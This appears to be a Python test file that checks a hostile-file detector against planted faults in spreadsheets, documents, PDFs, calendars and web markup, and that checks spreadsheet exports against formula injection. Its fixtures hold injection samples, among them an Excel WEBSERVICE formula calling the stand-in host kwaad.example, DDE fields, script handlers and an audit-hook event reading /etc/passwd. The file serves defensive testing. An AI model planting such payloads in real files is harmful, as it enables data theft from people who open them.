"""That the looks of .ci/reliability/hostile.py see what they are there for: one planted fault for each."""

import io
import zipfile
from pathlib import Path
from types import ModuleType

import pytest
from openpyxl import Workbook
from openpyxl.worksheet.datavalidation import DataValidation
from reportlab.pdfgen.canvas import Canvas

from kanaalwaarden.core import intents
from kanaalwaarden.core.accounts_table import account_choices
from tests import hostile, samples
from tests.ballots.filling import form, with_forms
from tests.hostile_files import FACTS
from tests.runs import load

ROOT = Path(__file__).resolve().parents[1]


def book() -> bytes:
    made = Workbook()
    page = made.worksheets[0]
    page["A1"] = "=1+1"
    page["A2"] = "klik"
    page["A2"].hyperlink = "http://kwaad.example"
    check = DataValidation(type="list", formula1='"een"&WEBSERVICE("http://kwaad.example")&""')
    check.add("B1")
    page.add_data_validation(check)
    out = io.BytesIO()
    made.save(out)
    return out.getvalue()


def package(name: str, content: str) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as parts:
        parts.writestr(name, content)
    return out.getvalue()


def linked() -> bytes:
    out = io.BytesIO()
    canvas = Canvas(out)
    canvas.linkURL("http://kwaad.example", (0, 0, 9, 9))
    canvas.save()
    return out.getvalue()


RELATIONS = '<Relationships><Relationship Target="http://kwaad.example" TargetMode="External"/></Relationships>'
CASES = [
    ("html", b'<p><a href="javascript:x">y</a>', "<a href=javascript:x>"),
    ("html", b"<svg onload='x'/>", "<svg onload>"),
    ("md", b"[a](http://kwaad.example)", "link_open"),
    ("md", b"a <b>c</b>", "html_inline"),
    ("csv", b"a;b\r\n=1+1;c\r\n", "a cell that begins with '='"),
    ("csv", b"a;b\r\nc\r\n", "rows of [1, 2] cells"),
    ("xlsx", book(), "a formula"),
    ("xlsx", book(), "a link to http://kwaad.example"),
    ("xlsx", book(), 'check "een"&WEBSERVICE("http://kwaad.example")&""'),
    ("docx", package("word/_rels/document.xml.rels", RELATIONS), "word/_rels/document.xml.rels <Relationship TargetMode=External>"),
    ("docx", package("word/document.xml", "<p><fldSimple instr='DDE'/></p>"), "word/document.xml <fldSimple>"),
    ("ods", package("content.xml", "<c xmlns:t='t' t:formula='of:=1'/>"), "content.xml <c formula>"),
    ("mdto", b"<!DOCTYPE a [<!ENTITY x 'y'>]><a>&x;</a>", " declares a type"),
    ("pdf", linked(), "/URI"),
    ("ics", b"BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nATTACH:http://kwaad.example\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n", "VEVENT ATTACH"),
]  # fmt: skip


@pytest.mark.parametrize(("format_", "data", "fact"), CASES)
def test_a_planted_fault_is_seen(format_: str, data: bytes, fact: str) -> None:
    assert fact in FACTS[format_](data)


@pytest.fixture(scope="module")
def run() -> ModuleType:
    return load(".ci/reliability/hostile.py")


def test_what_is_opened_is_heard(run: ModuleType) -> None:
    run.listening = True
    for event, arguments in (
        ("open", ("/etc/passwd", "r", 0)), ("open", (f"{hostile.MARK}.png", "r", 0)), ("socket.connect", (None, "kwaad.example")),
        ("os.system", (b"touch x",)), ("open", (str(ROOT / "resources" / "cards.json"), "r", 0)),
    ):  # fmt: skip
        run.hook(event, arguments)
    run.listening = False
    assert run.heard.total() == 4


def test_every_field_is_planted() -> None:
    """A field that is new and holds a text is planted by itself; one that is left out must be known to be a key or a choice."""
    told = str(list(hostile.plant("Kwartelei", "Wachtel").records()))
    assert told.count("Kwartelei") + told.count("Wachtel") > 130
    assert len({text for text in hostile.STRINGS if hostile.clean_text(text) in {
        getattr(each, name) for each in hostile.mixed().records() for name in each.__dataclass_fields__
    }}) > 25  # fmt: skip


# What the run found


@pytest.mark.parametrize("reason", ["é €", "“krul”", "– en …", "אבג 漢字 👍", "100% (zeker) \\"])
def test_a_form_in_pdf_takes_any_letter(reason: str) -> None:
    session = with_forms(samples.grid(1, 1, 1))
    session.apply(intents.explain(session, 1, "d1", "p1", "w1", reason=reason).edits)
    assert form(session, "d1", "pdf").startswith(b"%PDF")


def test_a_platform_with_a_quote_makes_no_formula_of_the_list_in_excel() -> None:
    for name, offered in (("Mastodon", True), ('x"&WEBSERVICE("http://kwaad.example")&"', False), ("een, twee", False)):
        session = samples.grid(1, 1, 1)
        session.apply(intents.update(session, session.platform("p1"), "2026-01-01", name=name).edits)
        assert ([name] in account_choices(session, samples.labels()).values()) is offered


def test_a_long_name_has_a_footer_on_its_form_in_excel() -> None:
    session = with_forms(samples.grid(1, 1, ["& " * 99 + "x"]))
    assert form(session, "d1", "xlsx").startswith(b"PK")
